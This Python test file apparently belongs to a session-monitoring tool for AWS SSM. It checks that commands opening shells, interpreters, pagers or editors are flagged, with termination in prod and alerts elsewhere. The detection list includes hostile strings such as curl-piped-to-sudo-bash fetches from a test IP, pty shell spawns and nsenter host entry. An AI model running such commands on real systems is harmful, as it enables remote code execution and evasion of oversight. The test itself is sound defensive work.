"""The unwatched-shell start check: a command session whose command opens a shell, an interpreter,
a pager or an editor is not streamed, so it is a finding at start (terminate in prod, alert elsewhere)."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from ssm_warden.enforce.session_ref import session_facts
from ssm_warden.enforce.start_checks import check_start
from ssm_warden.enforce.unwatched_shell import classify
from ssm_warden.models.actions import ActionKind, Mode, SessionRef
from ssm_warden.models.session import Principal, SessionRecord, SessionState
from ssm_warden.policy.evaluate import effective_settings
from ssm_warden.policy.loader import default_policy

T0 = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
POLICY = default_policy()

UNWATCHED = [
    "sudo su -",
    "bash",
    "python3",
    "vim",
    'bash -c "$(cat /tmp/x)"',
    "sh -i",
    "less /var/log/x",
    "env bash",
    "sudo -i",
    "script -q",
    "sudo -u root -s",
    "su - deploy",
    "nice -n 10 bash",
    "timeout 3600 bash -l",
    "sudo env FOO=1 /bin/bash",
    "cat /tmp/x.sh | bash",
    "curl -s http://203.0.113.9/x | sudo bash -s",
    "sh < /tmp/cmds",
    "cd /tmp && bash",
    "tmux new -s x",
    "docker exec -it web sh",
    "kubectl exec -it pod -- /bin/bash",
    "sudo nsenter -t 1 -m -u -i -n -p",
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
    "exec /bin/bash --login",
    "powershell",
    "nohup sh -c 'bash -i'",
    "ssh db01",
    "man ls",
    "su -c 'bash' root",
    "sudo sh -c 'eval $(curl -s http://203.0.113.9/x)'",
]
WATCHED = [
    "systemctl status nginx",
    "tail -n 50 /var/log/syslog",
    "df -h",
    "sudo systemctl restart app",
    "bash -c 'systemctl status nginx'",
    "journalctl -u app --no-pager -n 100",
    "python3 -c 'print(1)'",
    "ssh db01 uptime",
    "docker exec web nginx -s reload",
    "su -c 'whoami' root",
    "echo bash",
    "grep bash /etc/shells",
    "timeout 10 curl -s localhost/health",
    "tmux ls",
    "python3 -V",
    "env",
    "sudo -l",
    "bash /opt/scripts/rotate-logs.sh",
    "sudo python3 /opt/tools/report.py --since 1h",
]


@pytest.mark.parametrize("command", UNWATCHED)
def test_commands_that_open_a_shell_interpreter_pager_or_editor_are_unwatched(command: str) -> None:
    found = classify(command)
    assert found is not None, command
    assert found.kind in ("shell", "interpreter", "pager", "editor", "terminal")


@pytest.mark.parametrize("command", WATCHED)
def test_commands_that_run_what_they_show_are_not(command: str) -> None:
    assert classify(command) is None


def test_unbalanced_quotes_do_not_break_the_check() -> None:
    assert classify("sudo su - 'oops") is not None
    assert classify("echo 'unterminated") is None


def record(env: str, document: str) -> SessionRecord:
    return SessionRecord.model_validate(
        {
            "session_id": "alice-0123456789abcdef0",
            "account": "123456789012",
            "region": "us-east-1",
            "state": SessionState.ACTIVE,
            "principal": Principal(arn="arn:aws:sts::123456789012:assumed-role/Admin/alice"),
            "target_id": "i-1",
            "target_tags": {"Environment": env},
            "document_name": document,
            "reason": "INC-1",
            "started_at": T0,
        }
    )


def start(
    env: str, command: str, *, document: str = "AWS-StartInteractiveCommand", force_monitor: bool = False
):  # type: ignore[no-untyped-def]
    rec = record(env, document)
    ref = SessionRef(
        session_id=rec.session_id,
        account=rec.account,
        region=rec.region,
        principal_arn=rec.principal.arn,
        target_id=rec.target_id,
        target_tags=rec.target_tags,
        document_name=document,
        reason=rec.reason,
        started_at=T0,
    )
    return check_start(
        session=ref,
        parameters={"command": [command]},
        settings=effective_settings(POLICY.policy, session_facts(rec)),
        policy=POLICY,
        now=T0,
        command_findings=[],
        open_for_principal=[],
        open_for_target=[],
        force_monitor=force_monitor,
    ).actions


def unwatched(actions):  # type: ignore[no-untyped-def]
    return [a for a in actions if a.rule_or_limit == "unwatched_shell"]


def test_prod_terminates_an_unwatched_shell_and_says_why() -> None:
    [action] = unwatched(start("prod", "sudo su -"))
    assert action.kind is ActionKind.TERMINATE
    assert action.mode is Mode.ENFORCE
    assert "sudo su -" in action.why
    assert "not streamed" in action.why


def test_monitor_mode_says_would_terminate() -> None:
    [action] = unwatched(start("prod", "bash", force_monitor=True))
    assert action.kind is ActionKind.TERMINATE
    assert action.mode is Mode.MONITOR
    assert action.would_terminate


def test_elsewhere_it_is_an_alert() -> None:
    [action] = unwatched(start("dev", "python3", document="AWS-StartNonInteractiveCommand"))
    assert action.kind is ActionKind.ALERT


def test_a_custom_document_with_a_command_parameter_is_checked_too() -> None:
    assert unwatched(start("dev", "vim /etc/hosts", document="Team-RunCommandSession"))


def test_a_plain_command_session_raises_nothing() -> None:
    assert unwatched(start("prod", "systemctl status nginx")) == []
